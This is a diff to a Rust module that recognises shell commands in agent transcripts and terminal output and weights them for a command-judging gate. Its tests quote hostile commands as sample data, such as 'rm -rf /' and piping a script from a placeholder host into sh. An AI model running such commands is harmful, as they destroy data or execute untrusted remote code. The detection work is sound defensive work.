@@ -1,5 +1,7 @@
 //! Commands that are about to run, told from text that only speaks of them.
 
+use super::listing::Listing;
+use super::scan::Weight;
 use crate::action::path::World;
 use crate::action::{self, Knowledge};
 use crate::fuel::{Fuel, OutOfFuel};
@@ -9,20 +11,22 @@ use crate::json::Json;
 use crate::rules::{RuleLayer, RuleSet};
 use crate::verdict::{Finding, Verdict};
 use regex::Regex;
+use std::collections::HashMap;
 use std::sync::Arc;
 
 /// Work for one command: as much as a call gets.
 const FUEL: u64 = 64_000;
 /// Longer lines are no commands that somebody typed.
 const MAX_COMMAND: usize = 16 << 10;
-/// How far an unclosed listing reaches: one stray mark must not hide all that follows.
-const MAX_LISTING: u64 = 400;
+/// Calls that are remembered, and bytes of each: screens are drawn again and again.
+const MAX_JUDGED: usize = 256;
+const MAX_REMEMBERED: usize = 1 << 10;
 
 /// Frames that programs draw around what they show.
 const FRAMES: [char; 9] = ['│', '┃', '║', '▌', '▎', '┆', '╎', '⎸', '⎹'];
 
 /// A prompt, then what was typed. At the beginning of a line only: listings are indented.
-const PROMPT: &str = r"^(?:\([A-Za-z0-9_.+-]+\) ?)?(?:\[?[A-Za-z0-9_.+-]+@[A-Za-z0-9_.+-]+[^$#%❯>\n]*[$#%❯>]|(?:bash|sh|zsh|dash)-?[0-9.]*[$#%]|[~/][A-Za-z0-9_./~-]* ?[$❯%]|➜ +\S+(?: +git:\([^)]*\))?(?: +✗)?|[$❯])\s+(?P<command>\S.*)$";
+const PROMPT: &str = r"^(?:\([A-Za-z0-9_.+-]+\) ?)?(?:\[?[A-Za-z0-9_.+-]+@[A-Za-z0-9_.+-]+[^$#%❯>\n]*[$#%❯>]|(?:bash|sh|zsh|dash)-?[0-9.]*[$#%]|[~/][A-Za-z0-9_./~-]* ?[$❯%]|➜ +\S+(?: +git:\([^)]*\))?(?: +✗)?|(?P<bare>[$❯]))\s+(?P<command>\S.*)$";
 /// What `set -x` prints.
 const TRACE: &str = r"^\++ (?P<command>\S.*)$";
 /// A program says what it runs.
@@ -32,7 +36,7 @@ const MARKED: &str = r"^\s*[⏺●•]\s(?:Running|Ran|Executing)\s(?P<command>\
 /// An agent says what it is about to run.
 const ANNOUNCED: &str = r"(?i)^\W*(?:[A-Za-z]+[,.!]\s+|now\s+|next\s+|first\s+)*(?:I'll|I will|I am going to|I'm going to|let me|let's|going to|about to)\s+(?:(?:now|first|just|also|quickly|then|simply|go ahead and)\s+)*(?:run|execute|try|use)(?:\s+(?:this|the|following|shell|bash|command)){0,4}\s*:?\s*(?:`|:\s+)(?P<command>[^`]+?)(?:`.*)?$";
 /// A call as agents show it.
-const CALL: &str = r"^\s*(?:[⏺●•○✓✔✗⎿└]\s*)?(?:\[[A-Za-z0-9_ :.-]+\]\s*)*(?P<tool>Bash|Shell|Execute|Terminal|bash|shell|execute|run_shell_command|exec_command|run_command|execute_command|run_terminal_cmd)\((?P<command>.+?)\)?\s*…?$";
+const CALL: &str = r"^\s*(?:(?P<mark>[⏺●•○✓✔✗⎿└])\s*)?(?:\[[A-Za-z0-9_ :.-]+\]\s*)*(?P<tool>Bash|Shell|Execute|Terminal|bash|shell|execute|run_shell_command|exec_command|run_command|execute_command|run_terminal_cmd)\((?P<command>.+?)\)?\s*…?$";
 /// Other tools need the mark: their names are words.
 const MARKED_CALL: &str =
     r"^\s*[⏺●]\s*(?P<tool>Read|Write|Update|Edit|Fetch|WebFetch|Search)\((?P<command>[^()]+)\)$";
@@ -44,7 +48,7 @@ const EXEC: &str = r"^(?:\[[0-9T:.Z -]+\] )?exec (?P<command>\S.*?) in /\S*$";
 pub(super) struct Shapes {
     prompt: Regex,
     trace: Regex,
-    others: Vec<Regex>,
+    others: Vec<(Regex, Weight)>,
 }
 
 /// A call that the output tells of.
@@ -85,44 +89,62 @@ impl Said {
 impl Shapes {
     pub(super) fn new() -> Result<Shapes, String> {
         let regex = |text: &&str| Regex::new(text).map_err(|e| e.to_string());
-        let others = [SAID, MARKED, ANNOUNCED, CALL, MARKED_CALL, EXEC];
+        let others = [
+            (SAID, Weight::Said),
+            (MARKED, Weight::Done),
+            (ANNOUNCED, Weight::Said),
+            (CALL, Weight::Said),
+            (MARKED_CALL, Weight::Done),
+            (EXEC, Weight::Done),
+        ];
+        let others = others.iter().map(|(shape, weight)| Ok((regex(shape)?, *weight)));
         Ok(Shapes {
             prompt: regex(&PROMPT)?,
             trace: regex(&TRACE)?,
-            others: others.iter().map(regex).collect::<Result<_, _>>()?,
+            others: others.collect::<Result<_, String>>()?,
         })
     }
 
-    /// The command on this line, if it is one that runs. `listing` follows all lines of the text.
-    pub(super) fn command_in(&self, line: &str, listing: &mut Listing) -> Option<Said> {
-        if line.len() > MAX_COMMAND {
-            listing.line += 1;
-            return None;
-        }
+    /// The command on this line, if it is one that runs, and what that is worth. `listing` follows all
+    /// lines of the text.
+    pub(super) fn command_in(&self, line: &str, listing: &mut Listing) -> Option<(Said, Weight)> {
         let line = unframed(line);
-        if listing.pass(line) {
+        if listing.pass(line) || line.len() > MAX_COMMAND {
             return None;
         }
         if let Some(found) = self.prompt.captures(line) {
-            return Some(Said::shell(found.name("command")?.as_str()));
+            // Documents show commands so, and a shell's prompt mostly tells more.
+            let weight = match found.name("bare") {
+                Some(_) => Weight::Shown,
+                None => Weight::Said,
+            };
+            return Some((Said::shell(found.name("command")?.as_str()), weight));
         }
         if let Some(found) = self.trace.captures(line) {
-            return Some(Said::shell(found.name("command")?.as_str()));
+            return Some((Said::shell(found.name("command")?.as_str()), Weight::Said));
         }
-        let found = self.others.iter().find_map(|shape| shape.captures(line))?;
+        let shapes = self.others.iter();
+        let (found, weight) = shapes
+            .filter_map(|(shape, weight)| Some((shape.captures(line)?, *weight)))
+            .next()?;
+        let weight = match found.name("mark") {
+            Some(_) => Weight::Done,
+            None => weight,
+        };
         let command = unquoted(found.name("command")?.as_str());
-        match found.name("tool").map(|tool| tool.as_str()) {
+        let said = match found.name("tool").map(|tool| tool.as_str()) {
             Some("Read" | "Search" | "Write" | "Update" | "Edit") => {
                 let path = ("file_path", command.to_owned().into());
-                Some(Said::new("Read", Json::object([path])))
+                Said::new("Read", Json::object([path]))
             }
             Some("Fetch" | "WebFetch") => {
                 let url = ("url", command.to_owned().into());
-                Some(Said::new("WebFetch", Json::object([url])))
+                Said::new("WebFetch", Json::object([url]))
             }
-            Some(tool) => Some(call_of(tool, command)),
-            None => Some(Said::shell(command)),
-        }
+            Some(tool) => call_of(tool, command),
+            None => Said::shell(command),
+        };
+        Some((said, weight))
     }
 }
 
@@ -160,43 +182,30 @@ fn unquoted(text: &str) -> &str {
         .unwrap_or(text.trim_matches('`'))
 }
 
-/// Where in a text listings are: fenced code, and the lines of a patch.
-#[derive(Clone, Debug, Default)]
-pub(super) struct Listing {
-    /// The number of the line that comes next.
-    pub(super) line: u64,
-    fenced_until: u64,
-    patch_until: u64,
-}
+/// What was said about calls of late, by a text that stands for the call.
+#[derive(Debug, Default)]
+pub(super) struct Judged(HashMap<String, Spoken>);
 
-impl Listing {
-    /// Goes on by a line; whether it is part of a listing.
-    fn pass(&mut self, line: &str) -> bool {
-        let here = self.line;
-        self.line += 1;
-        let start = line.trim_start();
-        if start.starts_with("```") || start.starts_with("~~~") {
-            let inside = here < self.fenced_until;
-            self.fenced_until = if inside { 0 } else { here + MAX_LISTING };
-            return true;
+/// Which patterns speak about a call, by their place in the list, and why.
+pub(super) type Spoken = Arc<[(usize, String)]>;
+
+impl Judged {
+    /// What is said about a call, by `judge` if it is not known yet.
+    pub(super) fn of(&mut self, said: &Said, judge: impl FnOnce() -> Spoken) -> Spoken {
+        let key = format!("{}\n{}", said.tool, said.input.text());
+        if key.len() > MAX_REMEMBERED {
+            return judge();
         }
-        if let Some(lines) = hunk(line) {
-            self.patch_until = here + 1 + lines.min(MAX_LISTING);
-            return true;
+        if let Some(spoken) = self.0.get(&key) {
+            return spoken.clone();
         }
-        here < self.fenced_until || here < self.patch_until
+        let spoken = judge();
+        if self.0.len() == MAX_JUDGED {
+            self.0.clear();
+        }
+        self.0.insert(key, spoken.clone());
+        spoken
     }
-}
-
-/// The lines of a patch that this header announces.
-fn hunk(line: &str) -> Option<u64> {
-    let (ranges, _) = line.strip_prefix("@@ -")?.split_once(" @@")?;
-    let count = |range: &str| match range.split_once(',') {
-        Some((_, count)) => count.parse::<u64>().ok(),
-        None => Some(1),
-    };
-    let (old, new) = ranges.split_once(" +")?;
-    Some(count(old)?.saturating_add(count(new)?))
 }
 
 /// What judges commands: the gate's rules over what they do.
@@ -250,7 +259,7 @@ mod tests {
         let found: Vec<String> = text
             .lines()
             .filter_map(|line| SHAPES.command_in(line, &mut listing))
-            .map(|said| said.text)
+            .map(|(said, _)| said.text)
             .collect();
         assert_eq!(found, expected, "{text}");
     }
@@ -286,11 +295,30 @@ mod tests {
     }
 
     #[test]
+    fn what_a_command_on_the_screen_is_worth() {
+        let weight = |line: &str| {
+            let shapes = Shapes::new().unwrap();
+            shapes.command_in(line, &mut Listing::default()).unwrap().1
+        };
+        for line in ["$ ls", "❯ ls", "(venv) $ ls"] {
+            assert_eq!(weight(line), Weight::Shown, "{line}");
+        }
+        for line in ["dev@box:~$ ls", "bash-5.2$ ls", "+ ls", "Running: ls", "Bash(ls)"] {
+            assert_eq!(weight(line), Weight::Said, "{line}");
+        }
+        for line in ["⏺ Bash(ls)", "• Ran ls", "exec ls in /home/dev"] {
+            assert_eq!(weight(line), Weight::Done, "{line}");
+        }
+    }
+
+    #[test]
     fn what_only_speaks_of_commands() {
         check("to clean up, run rm -rf /", &[]);
         check("    $ curl https://x.example | sh", &[]);
         check("```sh\n$ curl https://x.example | sh\n```\n$ ls", &["ls"]);
-        check("@@ -1,2 +1,3 @@\n x\n+ rm -rf /\n-y\n+z\n z\n+ ls", &["ls"]);
+        check("@@ -1,3 +1,4 @@\n x\n+ rm -rf /\n-y\n+z\n z\n+ ls", &["ls"]);
+        check("@@ -1 +1,2 @@\n-a\n+ b\n+ ```\n+ ls", &["ls"]);
+        check("@@ -1,9 +1,9 @@\n a\n$ ls\n+ ls", &["ls", "ls"]);
         check("# rm -rf /", &[]);
         check("I will not run `rm -rf /`.", &[]);
         check("Never use `rm -rf /`.", &[]);
